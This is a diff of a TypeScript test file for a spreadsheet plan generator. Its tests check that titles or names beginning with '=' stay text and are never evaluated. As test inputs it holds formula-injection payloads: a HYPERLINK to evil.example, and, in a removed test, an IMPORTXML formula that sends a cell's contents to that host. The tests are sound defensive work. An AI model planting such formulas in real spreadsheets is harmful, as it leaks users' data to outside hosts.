@@ -427,17 +427,14 @@ describe('Targets tab to-date figures', () => {
 });
 
 describe('plan text in the generated grid', () => {
-  it('stays text: an owner that starts with "=" is written as a formula yielding that text, never run', () => {
-    // (A name is a reference to the plan's cell, which shows such text as it is: see "a row's Name" above.)
+  it('stays text: a title that starts with "=" is written as a formula yielding that text, never run', () => {
     const workbook = exampleWorkbook('en', { date: serial });
     const krs = workbook['Key Results'];
-    const owner = '=HYPERLINK("http://evil.example","click")';
-    krs[1][(krs[0] as string[]).indexOf('Owner')] = owner;
+    const title = '=HYPERLINK("http://evil.example","click")';
+    krs[1][(krs[0] as string[]).indexOf('Key result')] = title;
     const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
-    krs[1][(krs[0] as string[]).indexOf('Owner')] = `'${owner}`; // text to HyperFormula, as to Sheets
     const { values } = evaluateWorkbook({ ...workbook, Targets: sheet.rows });
-    expect(sheet.rows[sheet.targetRows.KR1 - 1][3]).toMatch(/^="=HYPERLINK\(/);
-    expect(values('Targets')[sheet.targetRows.KR1 - 1][3]).toBe(owner);
+    expect(values('Targets')[sheet.targetRows.KR1 - 1][2]).toBe(title);
   });
 
   it('stays text: a title or owner that starts with +, - or @ (a formula to Excel and LibreOffice) too', () => {
@@ -508,38 +505,3 @@ describe("a KPI's window follows its Key result cell, without a rebuild", () => 
     });
   }
 });
-
-describe("a row's Name follows the plan's cell, without a rebuild", () => {
-  const name = (sheet: TargetsSheet, grid: unknown[][], id: string) =>
-    grid[sheet.targetRows[id] - 1][(sheet.rows[0] as string[]).indexOf('Name')];
-
-  it('shows a key result or KPI renamed after Decompose, on its weights row too', () => {
-    const workbook = exampleWorkbook('en', { date: serial });
-    setCellOf(workbook, 'Key Results', 'KR2', 'Phasing', 'custom');
-    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
-    setCellOf(workbook, 'Key Results', 'KR2', 'Key result', 'Trial sign-ups, all channels');
-    setCellOf(workbook, 'KPIs', 'KPI1', 'KPI', 'Revenue growth, month on month');
-    const grid = evaluateTargets(workbook, sheet, 'en');
-    expect(name(sheet, grid, 'KR2')).toBe('Trial sign-ups, all channels');
-    expect(grid[sheet.weightRows[0] - 1][2]).toBe('Trial sign-ups, all channels');
-    expect(name(sheet, grid, 'KPI1')).toBe('Revenue growth, month on month');
-  });
-
-  it('shows a name held as text that starts with "=" as that text: a reference never runs what it shows', () => {
-    const workbook = exampleWorkbook('en', { date: serial });
-    const typed = '=IMPORTXML("http://evil.example/?"&A1,"//a")';
-    setCellOf(workbook, 'Key Results', 'KR1', 'Key result', typed);
-    const sheet = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
-    expect(sheet.rows[sheet.targetRows.KR1 - 1][2]).toBe("='Key Results'!$C$2");
-    // As Sheets holds such a cell (typed with a leading apostrophe, or pasted as text): text, which HyperFormula
-    // is given with its apostrophe.
-    setCellOf(workbook, 'Key Results', 'KR1', 'Key result', `'${typed}`);
-    expect(name(sheet, evaluateTargets(workbook, sheet, 'en'), 'KR1')).toBe(typed);
-  });
-});
-
-/** Set a cell of a tab by the row's ID (first column) and the column's header. */
-function setCellOf(workbook: Workbook, tab: string, id: string, header: string, value: string | number) {
-  const grid = workbook[tab];
-  grid[grid.findIndex((r) => Array.isArray(r) && r[0] === id)][(grid[0] as string[]).indexOf(header)] = value;
-}
